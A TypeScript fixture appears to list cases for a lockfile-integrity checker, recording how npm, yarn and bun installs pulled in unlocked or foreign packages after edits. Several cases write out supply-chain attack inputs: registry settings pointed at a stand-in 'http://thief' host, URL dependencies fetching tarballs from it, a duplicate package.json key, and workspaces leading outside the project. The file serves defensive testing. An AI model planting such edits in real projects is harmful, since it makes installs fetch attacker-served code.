/** What the suite of real managers has found: a change that passed here without a word, and what a frozen install brought in. */
export interface ManagerCase {
  /** A format and a project of projects.json. */
  readonly project: string
  /** As the suite calls the mutation. */
  readonly mutation: string
  /** Who installed it, and what came in. */
  readonly manager: string
  readonly brought: string
  /** What it must be here. `input`: told as a file that decides the install. */
  readonly must: 'refused' | 'told' | 'input'
}

export const CASES: readonly ManagerCase[] = [
  {
    project: 'npm-2 plain',
    mutation: 'package-lock.json: the block of line 23 deleted',
    manager: 'npm 7.24.2',
    brought: 'lib 1.1.0 for the locked 1.0.0: the entry was gone from `packages` and stayed in `dependencies`',
    must: 'refused',
  },
  {
    project: 'npm-3 rich',
    mutation: 'local/package.json: line 5, key "leaf" → "peer"',
    manager: 'npm 7.24.2',
    brought: 'peer 1.1.0, which the package.json of a `file:` folder asks for',
    must: 'refused',
  },
  {
    project: 'yarn-classic plain',
    mutation: 'yarn.lock: the block of line 5 deleted',
    manager: 'yarn 1.22.22',
    brought: 'leaf 1.1.0 for the locked 1.0.0: the entry was gone',
    must: 'refused',
  },
  {
    project: 'yarn-berry-6 plain',
    mutation: '.yarnrc.yml comes in: npmRegistryServer: "http://thief"',
    manager: 'yarn 3.8.7',
    brought: 'every tarball from the other host',
    must: 'input',
  },
  {
    project: 'bun rich',
    mutation: 'package.json: line 11 once more, behind it, as "nick": "http://thief/real/-/real-1.0.0.tgz",',
    manager: 'bun 1.4.5',
    brought: 'what the other host serves as real 1.0.0: of two keys in package.json the last one counted',
    must: 'refused',
  },
  {
    project: 'bun plain',
    mutation: 'package.json: "dependencies": { "other": "http://thief/leaf/-/leaf-1.0.0.tgz" }, put in after line 1',
    manager: 'bun 1.4.5',
    brought: 'a request to the other host; then bun missed `lib` and stopped',
    must: 'refused',
  },
  {
    project: 'yarn-classic rich',
    mutation: 'package.json: line 17, key "resolutions" → "resolution"',
    manager: 'yarn 1.22.22',
    brought: 'deep 2.0.0 for the locked 1.0.0: the resolution was gone',
    must: 'refused',
  },
  {
    project: 'yarn-classic rich',
    mutation: 'packages/second/package.json comes in: { "name": "second", "version": "1.0.0", "dependencies": { "other": "^1.0.0" } }',
    manager: 'yarn 1.22.22',
    brought: 'other 1.1.0, which is not locked',
    must: 'refused',
  },
  {
    project: 'yarn-classic rich',
    mutation: 'yarn.lock: the block of line 5 deleted',
    manager: 'yarn 1.22.22',
    brought: '@made/scoped 1.1.0 for 1.0.0, which only a workspace that did not change asks for',
    must: 'refused',
  },
  {
    project: 'npm-3 plain',
    mutation: 'package-lock.json: the block of line 23 deleted',
    manager: 'npm 7.24.2',
    brought: 'lib 1.1.0 for the locked 1.0.0, whose entry was gone',
    must: 'refused',
  },
  {
    project: 'npm-1 rich',
    mutation: 'package.json: "registry": "http://thief", put in after line 11',
    manager: 'npm 7.24.2',
    brought: 'the package of another host, as an optional dependency that the lockfile does not have',
    must: 'refused',
  },
  {
    project: 'npm-3 rich',
    mutation:
      'packages/second/package.json comes in: { "name": "second", "version": "1.0.0", "dependencies": { "other": "http://thief/leaf/-/leaf-1.0.0.tgz" } }',
    manager: 'npm 7.24.2',
    brought: 'the package of another host, which a workspace asks for that the lockfile does not have',
    must: 'refused',
  },
  {
    project: 'npm-2 rich',
    mutation: 'packages/second/package.json comes in: { "name": "second", "version": "1.0.0", "dependencies": { "other": "^1.0.0" } }',
    manager: 'npm 7.24.2',
    brought: 'other 1.1.0, which is not locked',
    must: 'refused',
  },
  {
    project: 'yarn-classic plain',
    mutation: 'package.json: workspaces lead out of the project',
    manager: 'yarn 1.22.22',
    brought: 'a folder beside that of the lockfile, with all that its package.json asks for',
    must: 'refused',
  },
  {
    project: 'npm-3 plain',
    mutation: 'package.json: workspaces lead out of the project',
    manager: 'npm 7.24.2',
    brought: 'a folder beside that of the lockfile, with all that its package.json asks for',
    must: 'refused',
  },
]
